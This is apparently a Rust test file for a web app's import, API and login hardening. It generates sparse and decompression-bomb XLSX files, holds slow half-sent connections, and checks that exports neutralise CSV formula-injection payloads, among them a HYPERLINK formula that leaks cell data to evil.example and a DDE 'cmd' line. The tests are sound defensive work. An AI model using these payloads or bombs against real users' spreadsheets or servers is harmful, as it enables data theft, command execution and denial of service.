//! Hostile input and load (issue 21), through the router: files and clients that must not take
//! the server down. Each test names the finding it guards.

mod common;

use std::io::{Read as _, Write as _};
use std::time::{Duration, Instant};

use common::{csrf_of, spawn};

/// Spreadsheets made to hurt a reader. Also used to (re)write the committed copies in
/// `tests/bad-input/actions/` (see `write_bad_input_corpus`).
pub mod evil_xlsx {
    use super::*;

    /// A workbook whose only cells are A1 and XFD1048576 (the last cell of a sheet): a dense
    /// reader lays out 2^20 × 2^14 cells (issue 21, finding 1: 512 GiB, abort).
    pub fn sparse() -> Vec<u8> {
        let mut wb = rust_xlsxwriter::Workbook::new();
        let sheet = wb.add_worksheet();
        sheet.write_string(0, 0, "id").unwrap();
        sheet.write_string(1_048_575, 16_383, "x").unwrap();
        wb.save_to_buffer().unwrap()
    }

    /// A valid action sheet (header + `rows` rows with ids T1000…).
    pub fn rows(rows: u32) -> Vec<u8> {
        let mut wb = rust_xlsxwriter::Workbook::new();
        let sheet = wb.add_worksheet();
        sheet.write_string(0, 0, "id").unwrap();
        sheet.write_string(0, 1, "title").unwrap();
        for r in 1..=rows {
            sheet.write_string(r, 0, format!("T{}", 999 + r)).unwrap();
            sheet.write_string(r, 1, "Rad").unwrap();
        }
        wb.save_to_buffer().unwrap()
    }

    /// [`rows`]`(1)` with `mib` MiB of blanks inserted into the sheet's XML: a few tens of KB
    /// that inflate past the reader's limit (issue 21, finding 2: whitespace and row bombs).
    pub fn whitespace_bomb(mib: usize) -> Vec<u8> {
        let base = rows(1);
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(base)).unwrap();
        let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        for i in 0..zip.len() {
            let file = zip.by_index(i).unwrap();
            let name = file.name().unwrap().to_string();
            if name != "xl/worksheets/sheet1.xml" {
                out.raw_copy_file(file).unwrap();
                continue;
            }
            let mut xml = String::new();
            { file }.read_to_string(&mut xml).unwrap();
            let (head, tail) = xml.split_at(xml.find("<sheetData>").unwrap() + 11);
            let opts = zip::write::SimpleFileOptions::default()
                .compression_method(zip::CompressionMethod::Deflated);
            out.start_file(name, opts).unwrap();
            out.write_all(head.as_bytes()).unwrap();
            let blanks = vec![b' '; 1024 * 1024];
            for _ in 0..mib {
                out.write_all(&blanks).unwrap();
            }
            out.write_all(tail.as_bytes()).unwrap();
        }
        out.finish().unwrap().into_inner()
    }
}

/// Writes the generated files into the bad-input corpus (run by hand when they change:
/// `cargo test -p naeringsplan-web --test hostile -- --ignored write_bad_input_corpus`).
#[test]
#[ignore]
fn write_bad_input_corpus() {
    let dir =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/bad-input/actions");
    std::fs::write(
        dir.join("18_sparse_a1_xfd1048576.xlsx"),
        evil_xlsx::sparse(),
    )
    .unwrap();
    std::fs::write(
        dir.join("19_inflates_past_limit.xlsx"),
        evil_xlsx::whitespace_bomb(40),
    )
    .unwrap();
    std::fs::write(dir.join("20_rows_past_limit.xlsx"), evil_xlsx::rows(10_000)).unwrap();
}

async fn upload(
    app: &common::TestApp,
    c: &reqwest::Client,
    csrf: &str,
    name: &str,
    bytes: Vec<u8>,
) -> (u16, String) {
    let form = reqwest::multipart::Form::new()
        .text("csrf", csrf.to_string())
        .part(
            "file",
            reqwest::multipart::Part::bytes(bytes).file_name(name.to_string()),
        );
    let res = c
        .post(app.url("/intern/import"))
        .multipart(form)
        .send()
        .await
        .unwrap();
    let (status, body) = (res.status().as_u16(), res.text().await.unwrap());
    // An accepted file is first previewed (issue 19 item 5): confirm it, as the user would,
    // and follow the redirect to the page saying what was imported.
    let Some(fields) = confirmation(&body) else {
        return (status, body);
    };
    let res = c
        .post(app.url("/intern/import/bekreft"))
        .form(&fields)
        .send()
        .await
        .unwrap();
    if res.status() != 303 {
        return (res.status().as_u16(), res.text().await.unwrap());
    }
    let to = res.headers()["location"].to_str().unwrap().to_string();
    let res = c.get(app.url(&to)).send().await.unwrap();
    (res.status().as_u16(), res.text().await.unwrap())
}

/// The hidden fields of an import preview's confirmation form, if the page has one.
fn confirmation(html: &str) -> Option<Vec<(String, String)>> {
    let at = html.find(r#"action="/intern/import/bekreft""#)?;
    let field = |name: &str| {
        let key = format!("name=\"{name}\" value=\"");
        let s = at + html[at..].find(&key).unwrap() + key.len();
        html[s..].split('"').next().unwrap().to_string()
    };
    Some(
        ["csrf", "name", "basis", "data"]
            .iter()
            .map(|n| (n.to_string(), field(n)))
            .collect(),
    )
}

/// Finding 1 and 2: a sparse sheet, an inflating sheet and a sheet with too many rows are each
/// refused (422) with a message naming the file and the reason; the server keeps answering a
/// public page within 5 s throughout, and nothing is imported.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sparse_and_bomb_workbooks_are_refused_and_the_server_keeps_answering() {
    let app = spawn().await;
    let c = app.logged_in("kari").await;
    let (_, page) = app.get_text(&c, "/intern/import").await;
    let csrf = csrf_of(&page);
    let before = app.store.actions(&app.plan_code).await.unwrap().len();
    let cases = [
        ("sparse.xlsx", evil_xlsx::sparse(), "celle XFD1048576"),
        (
            "bombe.xlsx",
            evil_xlsx::whitespace_bomb(40),
            "pakker seg ut til mer enn 32 MB",
        ),
        ("mange.xlsx", evil_xlsx::rows(10_000), "celle A10001"),
    ];
    for (name, bytes, reason) in cases {
        let started = Instant::now();
        let (status, body) = upload(&app, &c, &csrf, name, bytes).await;
        assert_eq!(status, 422, "{name}: {body}");
        assert!(
            body.contains(&format!("{name}: ")) && body.contains(reason),
            "{name}: expected the file named and «{reason}»:\n{body}"
        );
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "{name}: refused after {:?}",
            started.elapsed()
        );
        let started = Instant::now();
        let res = reqwest::get(app.url("/tiltak")).await.unwrap();
        assert_eq!(res.status(), 200, "{name}: the server still answers");
        assert!(started.elapsed() < Duration::from_secs(5));
    }
    // The same sheet with rows within the limit is read (and fails on content, not size).
    let (status, body) = upload(&app, &c, &csrf, "ok.xlsx", evil_xlsx::rows(3)).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(
        app.store.actions(&app.plan_code).await.unwrap().len(),
        before + 3,
        "a sheet within the limits is imported"
    );
}

/// Finding 2: a file with thousands of bad rows answers with the first 50 problems and a count,
/// not a page listing every one.
#[tokio::test]
async fn a_file_with_many_bad_rows_gets_a_short_answer() {
    let app = spawn().await;
    let c = app.logged_in("kari").await;
    let (_, page) = app.get_text(&c, "/intern/import").await;
    let csrf = csrf_of(&page);
    let mut csv = String::from("id,title,status\n");
    for i in 0..5000 {
        csv.push_str(&format!("T{i},Tittel,kanskje\n"));
    }
    let (status, body) = upload(&app, &c, &csrf, "mange.csv", csv.into_bytes()).await;
    assert_eq!(status, 422);
    assert_eq!(body.matches("ukjent status").count(), 50, "first 50 listed");
    assert!(body.contains("… og 4950 problemer til"), "{body}");
    assert!(body.len() < 100_000, "answer is {} bytes", body.len());
}

/// A CSV cell a spreadsheet would run as a formula: begins with `=`, `+`, `@`, tab or CR, or with
/// `-` and is not a plain negative number.
pub fn formula_like(cell: &str) -> bool {
    let plain_negative = cell.strip_prefix('-').is_some_and(|r| {
        !r.is_empty()
            && r.replace([',', '.'], "")
                .bytes()
                .all(|b| b.is_ascii_digit())
    });
    cell.starts_with(['=', '+', '@', '\t', '\r']) || (cell.starts_with('-') && !plain_negative)
}

/// Finding 5: an action title `=HYPERLINK(…)` came out of `/intern/eksport?format=csv` as is.
/// Now no exported cell is formula-like, the title is shown as text (`'=HYPERLINK…`), and
/// importing the export changes nothing (the quote is taken off again).
#[tokio::test]
async fn csv_export_is_safe_to_open_and_round_trips() {
    let app = spawn().await;
    let c = app.logged_in("kari").await;
    let (_, page) = app.get_text(&c, "/intern/import").await;
    let csrf = csrf_of(&page);
    let evil = "=HYPERLINK(\"https://evil.example/?x=\"&A2,\"Klikk\")";
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["id", "title", "owner", "comment"]).unwrap();
    w.write_record(["T1", evil, "+47 22 00 00 00", "@SUM(A1)"])
        .unwrap();
    w.write_record(["T2", "-2+3+cmd|' /C calc'!A0", "-", "=1+1"])
        .unwrap();
    let (status, body) = upload(&app, &c, &csrf, "ond.csv", w.into_inner().unwrap()).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(
        app.store
            .action(&app.plan_code, "T1")
            .await
            .unwrap()
            .unwrap()
            .action
            .title,
        evil
    );

    let export = c
        .get(app.url("/intern/eksport?format=csv"))
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap()
        .to_vec();
    let mut cells = 0;
    let mut titles = Vec::new();
    for rec in csv::Reader::from_reader(export.as_slice()).records() {
        let rec = rec.unwrap();
        for cell in rec.iter() {
            cells += 1;
            assert!(!formula_like(cell), "exported cell {cell:?}");
        }
        titles.push(rec[1].to_string());
    }
    assert!(cells > 100, "{cells} cells checked");
    assert!(titles.contains(&format!("'{evil}")), "{titles:?}");

    // Export → import: every row unchanged, the texts as they were.
    let (status, body) = upload(&app, &c, &csrf, "eksport.csv", export).await;
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("0 nye, 0 endret"), "{body}");
    let t1 = app
        .store
        .action(&app.plan_code, "T1")
        .await
        .unwrap()
        .unwrap();
    assert_eq!(t1.action.title, evil);
    assert_eq!(t1.action.owner, "+47 22 00 00 00");
    assert_eq!(t1.comment, "@SUM(A1)");
    let t2 = app
        .store
        .action(&app.plan_code, "T2")
        .await
        .unwrap()
        .unwrap();
    assert_eq!(t2.action.title, "-2+3+cmd|' /C calc'!A0");
    assert_eq!(t2.action.owner, "-");
    assert_eq!(t2.comment, "=1+1");
}

/// A second server on `app`'s store with these connection limits; its base URL.
async fn serve_limited(
    app: &common::TestApp,
    limits: naeringsplan_web::server::ServerLimits,
) -> std::net::SocketAddr {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let state = naeringsplan_web::AppState::new(app.store.clone(), app.plan_code.clone());
    tokio::spawn(naeringsplan_web::serve_with_limits(
        listener,
        state,
        limits,
        std::future::pending(),
    ));
    addr
}

/// Opens a connection and sends `bytes`, then goes silent.
async fn half_send(addr: std::net::SocketAddr, bytes: &[u8]) -> tokio::net::TcpStream {
    use tokio::io::AsyncWriteExt as _;
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    s.write_all(bytes).await.unwrap();
    s
}

/// Reads until the server closes the connection (or `within` passes); what it sent.
async fn read_to_close(s: &mut tokio::net::TcpStream, within: Duration) -> Option<String> {
    use tokio::io::AsyncReadExt as _;
    let mut out = Vec::new();
    match tokio::time::timeout(within, s.read_to_end(&mut out)).await {
        Ok(_) => Some(String::from_utf8_lossy(&out).into_owned()),
        Err(_) => None,
    }
}

const HALF: &[u8] = b"GET / HTTP/1.1\r\nHost: x\r\n";

/// Finding 3: connections that send half a request and go silent were never closed, and enough
/// of them stopped the server. Now, with a cap of 20 connections and 60 such connections held
/// open, a normal request still answers within 5 s (the silent ones make room), and the number
/// of connections the server keeps stays at the cap.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn half_sent_requests_above_the_cap_do_not_starve_the_server() {
    let app = spawn().await;
    let cap = 20;
    let addr = serve_limited(
        &app,
        naeringsplan_web::server::ServerLimits {
            header_read_timeout: Duration::from_secs(30),
            request_timeout: Duration::from_secs(60),
            idle_timeout: Duration::from_secs(60),
            max_connections: cap,
        },
    )
    .await;
    let mut held = Vec::new();
    for _ in 0..(3 * cap) {
        held.push(half_send(addr, HALF).await);
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    for round in 0..3 {
        let started = Instant::now();
        let res = reqwest::Client::builder()
            .timeout(Duration::from_secs(5))
            .build()
            .unwrap()
            .get(format!("http://{addr}/tiltak"))
            .send()
            .await
            .unwrap_or_else(|e| panic!("round {round}: no answer within 5 s: {e}"));
        assert_eq!(res.status(), 200);
        assert!(started.elapsed() < Duration::from_secs(5));
    }
    // The server closed the silent connections beyond the cap (the oldest first).
    let mut closed = 0;
    for s in held.iter_mut() {
        if read_to_close(s, Duration::from_millis(20)).await.is_some() {
            closed += 1;
        }
    }
    assert!(
        closed >= 2 * cap,
        "{closed} of {} silent connections closed",
        held.len()
    );
}

/// Finding 3, the timeouts: a half-sent request is dropped after the header timeout, a silent
/// connection after the idle timeout, and a request whose body never arrives is answered 503
/// after the request timeout.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn header_idle_and_request_timeouts_close_stalled_connections() {
    let app = spawn().await;
    let addr = serve_limited(
        &app,
        naeringsplan_web::server::ServerLimits {
            header_read_timeout: Duration::from_secs(1),
            request_timeout: Duration::from_secs(1),
            idle_timeout: Duration::from_secs(1),
            max_connections: 100,
        },
    )
    .await;
    let mut half = half_send(addr, HALF).await;
    let mut silent = half_send(addr, b"").await;
    let mut slow_body = half_send(
        addr,
        b"POST /logg-inn HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\nusername=",
    )
    .await;
    let started = Instant::now();
    assert!(
        read_to_close(&mut half, Duration::from_secs(4))
            .await
            .is_some(),
        "half-sent closed"
    );
    assert!(
        read_to_close(&mut silent, Duration::from_secs(4))
            .await
            .is_some(),
        "silent closed"
    );
    let answer = read_to_close(&mut slow_body, Duration::from_secs(4))
        .await
        .expect("slow body answered");
    assert!(answer.starts_with("HTTP/1.1 503"), "{answer}");
    assert!(started.elapsed() < Duration::from_secs(5));
    // A normal request on the same server is unaffected.
    let res = reqwest::get(format!("http://{addr}/tiltak")).await.unwrap();
    assert_eq!(res.status(), 200);
}

/// Finding 9: an upload over ~2 MB answered 500; now a file over the 5 MB limit is 413 and one
/// between 2 and 5 MB is read (and refused for its content, 422).
#[tokio::test]
async fn oversize_uploads_are_413_not_500() {
    let app = spawn().await;
    let c = app.logged_in("kari").await;
    let (_, page) = app.get_text(&c, "/intern/import").await;
    let csrf = csrf_of(&page);
    let mut big = b"id,title\n".to_vec();
    big.resize(6 * 1024 * 1024, b'x');
    let (status, body) = upload(&app, &c, &csrf, "stor.csv", big).await;
    assert_eq!(status, 413, "{body}");
    assert!(body.contains("Filen er for stor"), "{body}");
    let mut middling = b"id,title\n".to_vec();
    middling.resize(3 * 1024 * 1024, b'x');
    let (status, body) = upload(&app, &c, &csrf, "middels.csv", middling).await;
    assert_eq!(status, 422, "{body}");
    // The API's JSON body limit also answers 413.
    let res = reqwest::Client::new()
        .post(app.url("/api/actions"))
        .bearer_auth(&app.editor_token)
        .header("content-type", "application/json")
        .body(vec![b' '; 3 * 1024 * 1024])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 413);
}

/// Finding 9: 60 parallel `POST /api/actions` with one editor token: 24 answered 500 (database
/// is locked). Now all 60 are created; and 10 parallel creations of one id give one 201 and nine
/// 409, never a 500.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn parallel_api_writes_never_answer_500() {
    let app = spawn().await;
    let http = reqwest::Client::new();
    let post = |id: String| {
        http.post(app.url("/api/actions"))
            .bearer_auth(&app.editor_token)
            .json(&serde_json::json!({"id": id, "title": format!("Parallelt tiltak {id}")}))
            .send()
    };
    let answers = futures_join_all((0..60).map(|i| post(format!("P{i}")))).await;
    let statuses: Vec<u16> = answers
        .into_iter()
        .map(|r| r.unwrap().status().as_u16())
        .collect();
    assert!(statuses.iter().all(|s| *s == 201), "{statuses:?}");
    let answers = futures_join_all((0..10).map(|_| post("SAMME".to_string()))).await;
    let mut statuses: Vec<u16> = answers
        .into_iter()
        .map(|r| r.unwrap().status().as_u16())
        .collect();
    statuses.sort();
    assert_eq!(statuses, [201, 409, 409, 409, 409, 409, 409, 409, 409, 409]);
}

/// Finding 9: parallel imports creating the same new action answered 500 on a UNIQUE
/// constraint. Now exactly one creates it; the others either find it made already (200, nothing
/// changed), lose the race while writing (409) or find it made between reading the file and
/// writing (422, a row error); never 500.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn parallel_imports_of_one_new_action_conflict_with_409() {
    let app = spawn().await;
    let c = app.logged_in("kari").await;
    let (_, page) = app.get_text(&c, "/intern/import").await;
    let csrf = csrf_of(&page);
    let csv = b"id,title\nT500,Nytt tiltak\n".to_vec();
    let answers =
        futures_join_all((0..8).map(|_| upload(&app, &c, &csrf, "ny.csv", csv.clone()))).await;
    let statuses: Vec<u16> = answers.iter().map(|(s, _)| *s).collect();
    assert!(
        statuses.iter().all(|s| [200, 409, 422].contains(s)),
        "{statuses:?}"
    );
    let created = answers
        .iter()
        .filter(|(_, body)| body.contains("Importert: 1 nye"))
        .count();
    assert_eq!(created, 1, "{statuses:?}");
    assert!(
        app.store
            .action(&app.plan_code, "T500")
            .await
            .unwrap()
            .is_some()
    );
}

/// HSTS when cookies are Secure (https), not on plain loopback http.
#[tokio::test]
async fn hsts_when_cookies_are_secure() {
    let secure = common::spawn_with(
        store::users::Throttle::default(),
        naeringsplan_web::auth::CookieSecurity::Always,
    )
    .await;
    let res = reqwest::get(secure.url("/")).await.unwrap();
    assert_eq!(
        res.headers()
            .get("strict-transport-security")
            .map(|v| v.to_str().unwrap()),
        Some("max-age=31536000")
    );
    let plain = spawn().await;
    let res = reqwest::get(plain.url("/")).await.unwrap();
    assert!(res.headers().get("strict-transport-security").is_none());
}

/// Runs futures concurrently on the runtime (each as its own task) and collects their outputs.
async fn futures_join_all<F>(futs: impl IntoIterator<Item = F>) -> Vec<F::Output>
where
    F: std::future::Future,
{
    // The futures borrow the test's client; run them concurrently on this task.
    let mut set: Vec<std::pin::Pin<Box<F>>> = futs.into_iter().map(Box::pin).collect();
    let mut out: Vec<Option<F::Output>> = (0..set.len()).map(|_| None).collect();
    std::future::poll_fn(|cx| {
        let mut pending = false;
        for (i, f) in set.iter_mut().enumerate() {
            if out[i].is_none() {
                match f.as_mut().poll(cx) {
                    std::task::Poll::Ready(v) => out[i] = Some(v),
                    std::task::Poll::Pending => pending = true,
                }
            }
        }
        if pending {
            std::task::Poll::Pending
        } else {
            std::task::Poll::Ready(())
        }
    })
    .await;
    out.into_iter().map(|o| o.unwrap()).collect()
}

/// Finding 6: after a password change the old API token still wrote, and enabling an account
/// revived its tokens. Now a password change, a role change and disabling revoke them (401).
#[tokio::test]
async fn password_change_disable_and_role_change_revoke_api_tokens() {
    let app = spawn().await;
    let http = reqwest::Client::new();
    let create = |token: String, id: &'static str| {
        http.post(app.url("/api/actions"))
            .bearer_auth(token)
            .json(&serde_json::json!({"id": id, "title": "Tokentest"}))
            .send()
    };
    assert_eq!(
        create(app.editor_token.clone(), "K1")
            .await
            .unwrap()
            .status(),
        201
    );
    app.store
        .set_password("kari", "et-helt-nytt-passord")
        .await
        .unwrap();
    assert_eq!(
        create(app.editor_token.clone(), "K2")
            .await
            .unwrap()
            .status(),
        401
    );

    // A viewer's token: 403 on a write while valid, 401 once revoked by disable → enable.
    assert_eq!(
        create(app.viewer_token.clone(), "K3")
            .await
            .unwrap()
            .status(),
        403
    );
    app.store.set_disabled("vera", true).await.unwrap();
    app.store.set_disabled("vera", false).await.unwrap();
    assert_eq!(
        create(app.viewer_token.clone(), "K3")
            .await
            .unwrap()
            .status(),
        401
    );

    // A role change revokes too.
    let t = app.store.create_api_token("ola", "admin").await.unwrap();
    assert_eq!(create(t.clone(), "K4").await.unwrap().status(), 201);
    app.store
        .set_role("ola", store::users::Role::Editor)
        .await
        .unwrap();
    assert_eq!(create(t, "K5").await.unwrap().status(), 401);
}

/// Finding 7: through the staff form, `role=superadmin` made a viewer, a weak password was taken
/// and a name differing only in case was accepted. Now each is refused with 422 and no account.
#[tokio::test]
async fn the_user_form_refuses_unknown_roles_weak_passwords_and_case_twins() {
    let app = spawn().await;
    let admin = app.logged_in("ola").await;
    let (_, html) = app.get_text(&admin, "/intern/brukere").await;
    let csrf = csrf_of(&html);
    for (name, password, role, why) in [
        ("nora", "et-langt-passord", "superadmin", "Ukjent rolle"),
        ("nora", "1234567890", "viewer", "too easy to guess"),
        ("nora", "password123", "viewer", "too easy to guess"),
        ("KARI", "et-langt-passord", "viewer", "already exists"),
    ] {
        let res = admin
            .post(app.url("/intern/brukere"))
            .form(&[
                ("csrf", csrf.as_str()),
                ("name", name),
                ("password", password),
                ("role", role),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 422, "{name}/{password}/{role}");
        assert!(res.text().await.unwrap().contains(why), "{why}");
    }
    assert!(app.store.user("nora").await.unwrap().is_none());
    assert!(app.store.user("KARI").await.unwrap().is_none());
}

/// Finding 8: the API took weights of ±1e308 (the progress page then showed "NaN %"), an end
/// before the start, and ids with NUL, newline or tab. Now the domain's one rule answers 422 for
/// each, through the API as through the form.
#[tokio::test]
async fn the_api_validates_as_the_form_does() {
    let app = spawn().await;
    let http = reqwest::Client::new();
    let post = |body: serde_json::Value| {
        http.post(app.url("/api/actions"))
            .bearer_auth(&app.editor_token)
            .json(&body)
            .send()
    };
    for body in [
        serde_json::json!({"id": "V1", "title": "x", "weight": 1e308}),
        serde_json::json!({"id": "V1", "title": "x", "weight": -1e308}),
        serde_json::json!({"id": "V1", "title": "x", "start": "2025-06-01", "end": "2025-01-01"}),
        serde_json::json!({"id": "V\u{0}1", "title": "x"}),
        serde_json::json!({"id": "V\n1", "title": "x"}),
        serde_json::json!({"id": "V\t1", "title": "x"}),
    ] {
        let res = post(body.clone()).await.unwrap();
        assert_eq!(res.status(), 422, "{body}");
    }
    assert!(
        app.store
            .action(&app.plan_code, "V1")
            .await
            .unwrap()
            .is_none()
    );
    // An edit: the weight and the dates are checked against what the action has.
    let t1 = app
        .store
        .action(&app.plan_code, "T1")
        .await
        .unwrap()
        .unwrap();
    for body in [
        serde_json::json!({"weight": 1e308}),
        serde_json::json!({"start": "2030-01-01", "end": "2029-01-01"}),
    ] {
        let res = http
            .patch(app.url("/api/actions/T1"))
            .bearer_auth(&app.editor_token)
            .header("if-match", format!("\"{}\"", t1.version))
            .json(&body)
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 422, "{body}");
    }
    let (status, page) = app.get_text(&common::client(), "/fremdrift?vekt=1").await;
    assert_eq!(status, 200);
    assert!(!page.contains("NaN"));
}

/// Finding 4: login names were public (`updated_by` in `/api/actions`, history pages), so anyone
/// knew whom to lock out. Now the public pages and the API show a display name or the role
/// word; the login name only on staff pages.
#[tokio::test]
async fn public_pages_and_the_api_show_display_names_not_login_names() {
    let app = spawn().await;
    let login = "zq-innlogging7";
    app.store
        .add_user(login, common::PASSWORD, store::users::Role::Editor)
        .await
        .unwrap();
    let token = app.store.create_api_token(login, "test").await.unwrap();
    let http = reqwest::Client::new();
    let t1 = app
        .store
        .action(&app.plan_code, "T1")
        .await
        .unwrap()
        .unwrap();
    let res = http
        .patch(app.url("/api/actions/T1"))
        .bearer_auth(&token)
        .header("if-match", format!("\"{}\"", t1.version))
        .json(&serde_json::json!({"comment": "Endret av en redaktør"}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let body: serde_json::Value = res.json().await.unwrap();
    assert_eq!(body["updated_by"], "redaktør");
    // The store records who did it; the public sees the role word, then the display name.
    assert_eq!(
        app.store
            .action(&app.plan_code, "T1")
            .await
            .unwrap()
            .unwrap()
            .updated_by,
        login
    );
    let anon = common::client();
    for (display, shown) in [
        (None, "redaktør"),
        (Some("Næringsavdelingen"), "Næringsavdelingen"),
    ] {
        if let Some(d) = display {
            app.store.set_display_name(login, d).await.unwrap();
            app.page_cache.invalidate();
        }
        for path in [
            "/api/actions",
            "/api/actions/T1",
            "/api/actions/T1/history",
            "/tiltak/T1",
            "/tiltak",
            "/",
        ] {
            let (status, text) = app.get_text(&anon, path).await;
            assert_eq!(status, 200, "{path}");
            assert!(!text.contains(login), "{path} shows the login name");
            if path.contains("T1") {
                assert!(text.contains(shown), "{path} shows {shown}");
            }
        }
    }
    let history: Vec<serde_json::Value> = http
        .get(app.url("/api/actions/T1/history"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(history.last().unwrap()["actor"], "Næringsavdelingen");
    // Staff pages may show the login name.
    let staff = app.logged_in("ola").await;
    let (_, home) = app.get_text(&staff, "/intern").await;
    assert!(home.contains(login));
}

/// The login form's CSRF check accepted any matching cookie/token pair an attacker could make
/// up. Now the form token must be the server's HMAC of the cookie's nonce: a made-up pair, a
/// pair from another store's server and a token without its cookie are refused (403).
#[tokio::test]
async fn the_login_form_accepts_only_csrf_pairs_this_server_issued() {
    let app = spawn().await;
    let plain = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let post = |cookie: String, csrf: String| {
        plain
            .post(app.url("/logg-inn"))
            .header("cookie", cookie)
            .form(&[
                ("csrf", csrf.as_str()),
                ("username", "kari"),
                ("password", common::PASSWORD),
            ])
            .send()
    };
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let minted = format!("{now}.{}", "a".repeat(64));
    // The old double-submit: the same value in cookie and form.
    let res = post(format!("np_login_csrf={minted}"), minted.clone())
        .await
        .unwrap();
    assert_eq!(res.status(), 403);
    // A pair issued by another server (another store, another secret).
    let other = spawn().await;
    let page = plain.get(other.url("/logg-inn")).send().await.unwrap();
    let foreign_cookie = page.headers()["set-cookie"]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    let foreign_csrf = csrf_of(&page.text().await.unwrap());
    let res = post(foreign_cookie, foreign_csrf).await.unwrap();
    assert_eq!(res.status(), 403);
    // This server's own pair works; its token with another nonce does not.
    let page = plain.get(app.url("/logg-inn")).send().await.unwrap();
    let cookie = page.headers()["set-cookie"]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    let csrf = csrf_of(&page.text().await.unwrap());
    assert_ne!(
        cookie.split_once('=').unwrap().1,
        csrf,
        "cookie and token differ"
    );
    let res = post(format!("np_login_csrf={minted}"), csrf.clone())
        .await
        .unwrap();
    assert_eq!(res.status(), 403);
    let res = post(cookie, csrf).await.unwrap();
    assert_eq!(res.status(), 303);
}

/// `__Host-` cookies when cookies are secure (`--secure-cookies always`): the whole login works
/// with them, and a plain-named cookie (which a neighbouring subdomain could plant) is ignored.
/// HSTS is sent (see `hsts_when_cookies_are_secure`).
#[tokio::test]
async fn secure_cookies_carry_the_host_prefix_and_plain_names_are_ignored() {
    let app = common::spawn_with(
        store::users::Throttle::default(),
        naeringsplan_web::auth::CookieSecurity::Always,
    )
    .await;
    let plain = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let first = |res: &reqwest::Response, prefix: &str| {
        res.headers()
            .get_all("set-cookie")
            .iter()
            .map(|v| v.to_str().unwrap().to_string())
            .find(|v| v.starts_with(prefix))
            .unwrap_or_else(|| panic!("no {prefix} cookie"))
    };
    let page = plain.get(app.url("/logg-inn")).send().await.unwrap();
    let set = first(&page, "__Host-np_login_csrf=");
    assert!(
        set.contains("; Secure") && set.contains("Path=/;") && !set.contains("Domain"),
        "{set}"
    );
    let login_cookie = set.split(';').next().unwrap().to_string();
    let csrf = csrf_of(&page.text().await.unwrap());
    let res = plain
        .post(app.url("/logg-inn"))
        .header("cookie", &login_cookie)
        .form(&[
            ("csrf", csrf.as_str()),
            ("username", "kari"),
            ("password", common::PASSWORD),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 303);
    let set = first(&res, "__Host-np_session=");
    assert!(
        set.contains("; Secure") && set.contains("Path=/;") && !set.contains("Domain"),
        "{set}"
    );
    let token = set
        .split(';')
        .next()
        .unwrap()
        .split_once('=')
        .unwrap()
        .1
        .to_string();
    let get = |cookie: String| {
        plain
            .get(app.url("/intern"))
            .header("cookie", cookie)
            .send()
    };
    assert_eq!(
        get(format!("__Host-np_session={token}"))
            .await
            .unwrap()
            .status(),
        200
    );
    assert_eq!(
        get(format!("np_session={token}")).await.unwrap().status(),
        303
    );
}

/// Finding 9, across the two ways in: web imports and API creations of one new action raced
/// against each other. One of them creates it; every other answer is a conflict (409), "made
/// meanwhile" (422 row error) or "nothing to change" (200): never a 500 from the UNIQUE
/// constraint.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn imports_and_api_creations_racing_for_one_id_never_answer_500() {
    let app = spawn().await;
    let c = app.logged_in("kari").await;
    let (_, page) = app.get_text(&c, "/intern/import").await;
    let csrf = csrf_of(&page);
    let http = reqwest::Client::new();
    let csv = "id,title\nT600,Kappløp\n".as_bytes().to_vec();
    let imports =
        futures_join_all((0..4).map(|_| upload(&app, &c, &csrf, "kapp.csv", csv.clone())));
    let posts = futures_join_all((0..4).map(|_| {
        http.post(app.url("/api/actions"))
            .bearer_auth(&app.editor_token)
            .json(&serde_json::json!({"id": "T600", "title": "Kappløp"}))
            .send()
    }));
    let (imports, posts) = tokio::join!(imports, posts);
    let posts: Vec<u16> = posts
        .into_iter()
        .map(|r| r.unwrap().status().as_u16())
        .collect();
    let import_statuses: Vec<u16> = imports.iter().map(|(s, _)| *s).collect();
    assert!(posts.iter().all(|s| [201, 409].contains(s)), "{posts:?}");
    assert!(
        import_statuses.iter().all(|s| [200, 409, 422].contains(s)),
        "{import_statuses:?}"
    );
    let created = posts.iter().filter(|s| **s == 201).count()
        + imports
            .iter()
            .filter(|(_, body)| body.contains("Importert: 1 nye"))
            .count();
    assert_eq!(created, 1, "{posts:?} {import_statuses:?}");
    let history = app.store.history(&app.plan_code, "T600").await.unwrap();
    assert_eq!(history.iter().filter(|h| h.field == "created").count(), 1);
}
